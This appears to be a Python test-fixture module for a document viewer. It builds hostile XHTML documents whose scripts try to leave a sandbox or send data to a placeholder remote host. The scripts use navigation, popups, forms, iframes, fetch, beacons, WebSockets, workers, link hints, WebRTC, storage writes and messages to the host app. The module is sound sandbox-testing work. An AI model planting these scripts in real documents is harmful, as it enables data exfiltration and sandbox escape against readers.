# SPDX-License-Identifier: BSD-3-Clause
"""Scripts that try to escape from a document whose scripts may run, or to send data out of it."""
from .hostile_documents import REMOTE, XHTML, Attempt


def code(text, markup="", files=(), **more):
    """Each line is a separate attempt."""
    lines = "\n".join(f"try {{ {line} }} catch (error) {{}}" for line in text.strip().splitlines())
    return Attempt(f"<script>//<![CDATA[\n{lines}\n//]]></script>{markup}", files, engines="", **more)


def inner(text):
    return f'<html xmlns="{XHTML}"><head><title>x</title></head><body><script>//<![CDATA[\n{text}\n//]]></script><p>x</p></body></html>'


TARGETS = ("_self", "_top", "_parent", "_blank", "named")
OUT = f'<img src="{REMOTE}img.png"><script>new Image().src = "{REMOTE}script"; location = "{REMOTE}location"</script>'.replace("/", "\\/")
#: In an element created with `h(name, attributes)`.
H = "self.h = (n, a) => { const e = document.createElement(n); for (const k in a) e.setAttribute(k, a[k]); document.documentElement.append(e); return e }\n"
SCRIPTED = {
    "location": code(f"location = '{REMOTE}location'"),
    "location-later": code(f"setTimeout(() => location.replace('{REMOTE}replace'), 30)\nsetTimeout(() => location.assign('{REMOTE}assign'), 60)"),
    "location-of-the-page": code(f"top.location = '{REMOTE}top'\nparent.location.href = '{REMOTE}parent'\ntop.hacked = true\n"
                                 "top.location.replace('javascript:hacked=1')"),
    "location-data": code(f"location = 'data:text/html,' + encodeURIComponent('{OUT}')"),
    "location-blob": code(f"location = URL.createObjectURL(new Blob(['{OUT}'], {{type: 'text/html'}}))"),
    "location-script": code(f"location = `javascript:'{OUT}'`"),
    "location-of-another-file": code("location = 'NAME-1.xsl'", files=(("NAME-1.xsl", "text/xsl", inner(
        f"new Image().src = '{REMOTE}xsl'; location = '{REMOTE}from-xsl'")),)),
    "opens": code("\n".join(f"open('{REMOTE}open{target}', '{target}')" for target in TARGETS) + f"\nopen('').document.write('{OUT}')"),
    "follows-links": code(H + "\n".join(f"h('a', {{href: '{REMOTE}link{target}', target: '{target}', ping: '{REMOTE}ping'}}).click()"
                                        for target in TARGETS) + f"\nh('a', {{href: '{REMOTE}download', download: 'a'}}).click()", left="webkit"),
    "submits-forms": code(H + "\n".join(f"h('form', {{action: '{REMOTE}form{target}', target: '{target}'}}).submit()" for target in TARGETS)),
    "refreshes": code(H + f"h('meta', {{'http-equiv': 'refresh', content: '0; url={REMOTE}refresh'}})", f'<meta http-equiv="refresh" content="0; {REMOTE}body"/>'),
    "frames": code(H + f"h('iframe', {{src: '{REMOTE}frame'}})\nh('object', {{data: '{REMOTE}object'}})\nh('embed', {{src: '{REMOTE}embed'}})\n"
                   f"h('iframe', {{srcdoc: '{OUT}'}})\nh('iframe', {{src: 'data:text/html,' + encodeURIComponent('{OUT}')}})\n"
                   f"h('iframe', {{src: URL.createObjectURL(new Blob(['{OUT}'], {{type: 'text/html'}}))}})\nh('iframe', {{}}).contentWindow.location = '{REMOTE}empty'\n"
                   f"h('iframe', {{}}).contentDocument.write('{OUT}')\nh('iframe', {{src: `javascript:'{OUT}'`}})"),
    "named-frames": code(H + f"h('iframe', {{name: 'inner', src: 'small.png'}})\nh('a', {{href: '{REMOTE}link', target: 'inner'}}).click()\n"
                         f"h('form', {{action: '{REMOTE}form', target: 'inner'}}).submit()\nopen('{REMOTE}open', 'inner')"),
    "frames-of-frames": code("", '<iframe src="NAME-1.xhtml"></iframe><iframe src="NAME-3.xml"></iframe>', (
        ("NAME-1.xhtml", "application/xhtml+xml", inner("").replace("<p>", '<iframe src="NAME-2.xhtml"/><p>')),
        ("NAME-2.xhtml", "application/xhtml+xml", inner(f"for (const one of [parent, parent.parent, top]) try {{ one.location = '{REMOTE}above' }} catch (e) {{}}\n"
                                                        f"location = '{REMOTE}itself'")),
        ("NAME-3.xml", "application/xml", inner(f"new Image().src = '{REMOTE}xml'; location = '{REMOTE}from-xml'")))),
    "frames-a-sibling": code(H + "h('iframe', {src: 'NAME-1.xhtml'})\n", '<iframe name="b" src="small.png"></iframe>', (
        ("NAME-1.xhtml", "application/xhtml+xml", inner(f"parent.frames[0].location = '{REMOTE}sibling'; open('{REMOTE}named', 'b')")),)),
    "frames-the-page": code(H + "h('iframe', {src: '../../../index.html?channel=http'})\nlocation = '../../../index.html?channel=get'"),
    "requests": code(f"fetch('{REMOTE}fetch', {{mode: 'no-cors', keepalive: true}})\nconst x = new XMLHttpRequest(); x.open('GET', '{REMOTE}xhr'); x.send()\n"
                     f"navigator.sendBeacon('{REMOTE}beacon', 'a')\nnew WebSocket('{REMOTE}socket'.replace('http', 'ws'))\nnew EventSource('{REMOTE}events')\n"
                     f"new Image().src = '{REMOTE}image'\nnew Audio('{REMOTE}audio').load()\nimport('{REMOTE}module.js')\nnew FontFace('f', 'url({REMOTE}font)').load()\n"
                     f"new WebTransport('{REMOTE}transport'.replace('http', 'https'))\nfetchLater('{REMOTE}later', {{activateAfter: 0}})"),
    "workers-of-blobs": code(f"self.u = URL.createObjectURL(new Blob([\"fetch('{REMOTE}worker'); importScripts('{REMOTE}import')\"]))\nnew Worker(u)\nnew SharedWorker(u)\n"
                             "new Worker('data:text/javascript,' + encodeURIComponent(`fetch('" + REMOTE + "data')`))\nnavigator.serviceWorker.register('worker.js')"),
    "hints-by-script": code(H + "\n".join(f"h('link', {{rel: '{rel}', as: 'image', href: '{REMOTE}{rel}'}})" for rel in (
        "prefetch", "preload", "prerender", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest", "stylesheet"))
        + f"\nh('script', {{type: 'speculationrules'}}).textContent = '{{\"prerender\": [{{\"source\": \"list\", \"urls\": [\"{REMOTE}rules\"]}}]}}'",
        left="firefox webkit"),
    "without-its-policy": code(H + f"for (const one of document.querySelectorAll('meta')) one.remove()\nnew Image().src = '{REMOTE}image'\nlocation = '{REMOTE}location'"),
    "writes-itself-again": code(f"setTimeout(() => {{ document.open(); document.write('{OUT}') }}, 20)\ndocument.documentElement.innerHTML = '{OUT}'"),
    "peers": code("self.peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}); peer.createDataChannel('a'); "
                  "peer.createOffer().then((offer) => peer.setLocalDescription(offer))", left="chromium firefox qt"),
    "dialogs-by-script": code("alert(1)\nconfirm(1)\nprompt(1)\nprint()\nshowModalDialog()"),
    "stores": code("localStorage.hacked = 1\ndocument.cookie = 'hacked=1'\nindexedDB.open('hacked')\ncaches.open('hacked')"),
    "messages-by-script": code("""for (const one of [parent, top]) one.postMessage({lectern: "", message: '{"type":"tap"}'}, '*')
webkit.messageHandlers.lectern.postMessage('{"type":"tap"}')\nfetch('../../send', {method: 'POST', body: '{"type":"tap"}'})\ntop.lectern.receive('{}')"""),
    **{f"clicked-{target[1:]}": code("", f'<a href="{REMOTE}clicked" ping="{REMOTE}ping" target="{target}" style="position: fixed; inset: 0; display: block">a</a>',
                                   left="firefox")
       for target in TARGETS[:4]},
    "clicked-script": code(H + f"onclick = () => {{ onclick = null; open('{REMOTE}open'); open('{REMOTE}top', '_top'); h('a', {{href: '{REMOTE}link', target: '_top'}}).click(); "
                           f"h('a', {{href: '{REMOTE}blank', target: '_blank'}}).click(); try {{ top.location = '{REMOTE}top' }} catch (error) {{}} }}", left="webkit"),
}
